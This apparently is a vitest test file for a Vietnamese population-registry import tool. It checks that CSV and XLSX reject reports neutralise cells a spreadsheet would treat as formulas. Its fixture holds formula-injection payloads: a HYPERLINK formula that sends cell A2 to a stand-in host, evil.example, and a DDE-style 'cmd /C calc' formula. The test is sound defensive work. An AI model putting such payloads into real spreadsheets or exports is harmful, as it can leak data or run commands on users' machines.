/**
 * A rejected cell whose text a spreadsheet would run as a formula (=…, +…, -…, @…) is written to the reject report:
 * neutralised in the CSV report (web download and `baophu import --rejects`), a plain string cell in the XLSX one.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import type { FastifyInstance } from 'fastify';
import Papa from 'papaparse';
import ExcelJS from 'exceljs';
import { createTestDatabase, envFor, type TestDatabase } from '../helpers/db.ts';
import { testApp, addUser, login, TEST_PASSWORD, type TestClient } from '../helpers/app.ts';
import { multipartFile, waitForImportJob } from '../helpers/upload.ts';
import { runCli } from '../helpers/cli.ts';

const HOSTILE = {
  birth: '=HYPERLINK("http://evil.example/?x="&A2,"31/02/1985")',
  sex: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  id: '-2+3',
  commune: '+05443',
};
const FILE = [
  'Số định danh cá nhân,Họ và tên,Ngày sinh,Giới tính,Dân tộc,Mã xã,Địa chỉ thường trú,Tình trạng,Ngày mất',
  '019185001234,Nguyễn Thị Hồng Nhung,12/02/1985,Nữ,Kinh,05443,,,',
  `019090001235,Đặng Văn Lường,"${HOSTILE.birth.replace(/"/g, '""')}",Nam,Tày,05443,,,`,
  `019195001236,Hoàng Thị Thủy,12/03/1995,${HOSTILE.sex},Nùng,05443,,,`,
  `${HOSTILE.id},Hoàng Văn Nam,12/03/1995,Nam,Nùng,05443,,,`,
  `019095001237,Hoàng Văn Bắc,12/03/1995,Nam,Nùng,${HOSTILE.commune},,,`,
].join('\r\n') + '\r\n';

let database: TestDatabase;
let app: FastifyInstance;
let police: TestClient;
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'report-formula-'));

beforeAll(async () => {
  database = await createTestDatabase();
  app = await testApp(database);
  await addUser(database, 'congan', 'police');
  police = await login(app, 'congan');
});
afterAll(async () => {
  await app.close();
  await database.destroy();
  fs.rmSync(dir, { recursive: true, force: true });
});

function expectNeutralised(csv: string) {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  const rows = parsed.data.slice(1);
  for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  const values = new Set(rows.map((r) => r[2]));
  for (const hostile of Object.values(HOSTILE)) expect(values.has(`'${hostile}`), hostile).toBe(true);
  // The row number is a number and stays one.
  expect(rows.every((r) => /^\d+$/.test(r[0]))).toBe(true);
}

async function importThroughWeb() {
  const m = multipartFile('dan-cu.csv', FILE, 'text/csv');
  const up = await police.send('POST', '/api/imports/uploads?kind=dan-cu', m.body, m.headers);
  expect(up.status, up.body).toBe(200);
  // Confirmed to replace: the command-line test may already have made its dan-cu file current, which this one replaces.
  const { jobId } = (await police.post(`/api/imports/uploads/${up.json.uploadId}/confirm`, { kind: 'dan-cu', replace: true })).json;
  return waitForImportJob(police, jobId);
}

describe('reject reports with formula-like cells', () => {
  it('neutralises them in the CSV download and keeps them as plain strings in the XLSX download', async () => {
    const job = await importThroughWeb();
    expect(job.result).toMatchObject({ status: 'imported', rejected: 4 });
    const csv = await police.get(`/api/imports/${job.result.batchId}/report?format=csv`);
    expect(csv.status).toBe(200);
    expectNeutralised(csv.body);

    const cookie = (await app.inject({ method: 'POST', url: '/api/auth/login', payload: { username: 'congan', password: TEST_PASSWORD } })).cookies.map((c) => `${c.name}=${c.value}`).join('; ');
    const x = await app.inject({ method: 'GET', url: `/api/imports/${job.result.batchId}/report?format=xlsx`, headers: { cookie } });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(x.rawPayload as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    wb.worksheets[0].eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    for (const hostile of Object.values(HOSTILE)) expect(cells.find((c) => c.value === hostile)?.type, hostile).toBe(ExcelJS.ValueType.String);
  });

  it('neutralises them in `baophu import --rejects report.csv`', () => {
    const source = path.join(dir, 'dan-cu-2.csv');
    // Different bytes from the web import (a different content hash), same rejected cells.
    fs.writeFileSync(source, FILE.replace('Nguyễn Thị Hồng Nhung', 'Nguyễn Thị Hồng'));
    const rejects = path.join(dir, 'loai.csv');
    const r = runCli(['import', 'dan-cu', source, '--replace', '--json', '--rejects', rejects], envFor(database));
    expect(r.code, r.stderr).toBe(0);
    expectNeutralised(fs.readFileSync(rejects, 'utf8'));
  });
});
